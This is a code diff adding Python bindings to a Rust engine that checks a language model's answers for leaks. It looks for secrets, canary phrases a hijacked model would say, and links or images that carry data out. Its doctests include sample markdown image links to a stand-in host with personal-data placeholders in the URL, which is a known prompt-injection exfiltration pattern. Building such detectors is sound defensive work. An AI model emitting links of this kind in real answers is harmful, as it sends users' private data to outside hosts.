@@ -11,6 +11,7 @@ use pyo3::prelude::*;
 use pyo3::pybacked::PyBackedStr;
 use pyo3::types::{PyDict, PyTuple};
 
+use crate::answer::{self, AnswerGuard, Checked, SseGuard};
 use crate::convert::{Finding, Redacted, findings};
 use crate::policy::PolicyChoice;
 use crate::recognizer::{PyRecognizer, Raised};
@@ -178,6 +179,60 @@ impl Engine {
     #[pyo3(signature = (vault=None))]
     fn redactor(&self, vault: Option<&Vault>) -> Redactor {
         Redactor::new(&self.inner, vault.map(|vault| &vault.inner), self.raised.clone())
+    }
+
+    /// Check a model's answer before originals are put back into it: for secrets, for `canaries` (texts that only a hijacked
+    /// model says, however they are spelled), and for links and images that carry placeholders, personal data or originals
+    /// of the vault out. `on_leak` is `redact` (leaking places are taken out), `block` or `report`. Raises `ValueError` if it
+    /// is another.
+    ///
+    /// >>> answer = "Done. ![ok](https://x.example/p?d=[EMAIL_1]) The word is Blue Heron 417."
+    /// >>> checked = Engine().check_answer(answer, canaries=["blue-heron-417"])
+    /// >>> checked.text, [leak.kind for leak in checked.leaks]
+    /// ('Done. ![ok]([LINK]) The word is [CANARY].', ['link', 'canary'])
+    #[pyo3(signature = (answer, *, canaries=None, vault=None, on_leak="redact"))]
+    fn check_answer(
+        &self,
+        py: Python<'_>,
+        answer: &str,
+        canaries: Option<Vec<String>>,
+        vault: Option<&Vault>,
+        on_leak: &str,
+    ) -> PyResult<Checked> {
+        let checks = answer::checks(canaries, vault, on_leak)?;
+        let checked = py.detach(|| self.inner.check_answer(answer, &checks));
+        Ok(Checked::new(answer, checked))
+    }
+
+    /// `check_answer` for an answer as it arrives; put it before a restorer. A line comes out once it is checked.
+    ///
+    /// >>> guard = Engine().answer_guard()
+    /// >>> guard.push("![p](https://x.example/?d=[EMA"), guard.push("IL_1]) bye"), guard.finish()
+    /// ('', '', '![p]([LINK]) bye')
+    #[pyo3(signature = (*, canaries=None, vault=None, on_leak="redact"))]
+    fn answer_guard(
+        &self,
+        canaries: Option<Vec<String>>,
+        vault: Option<&Vault>,
+        on_leak: &str,
+    ) -> PyResult<AnswerGuard> {
+        Ok(AnswerGuard::new(&self.inner, answer::checks(canaries, vault, on_leak)?))
+    }
+
+    /// `check_answer` for the events of a streamed answer of a chat API; put it before `Vault.sse_restorer`.
+    ///
+    /// >>> guard = Engine().sse_guard()
+    /// >>> event = b'data: {"choices": [{"index": 0, "delta": {"content": "![p](https://x.example/?d=[EMAIL_1])"}}]}'
+    /// >>> b"![p]([LINK])" in guard.push(event + b"\n\n") + guard.finish(), guard.leaks
+    /// (True, ['link'])
+    #[pyo3(signature = (*, canaries=None, vault=None, on_leak="redact"))]
+    fn sse_guard(
+        &self,
+        canaries: Option<Vec<String>>,
+        vault: Option<&Vault>,
+        on_leak: &str,
+    ) -> PyResult<SseGuard> {
+        Ok(SseGuard::new(&self.inner, answer::checks(canaries, vault, on_leak)?))
     }
 
     /// The name of the policy.
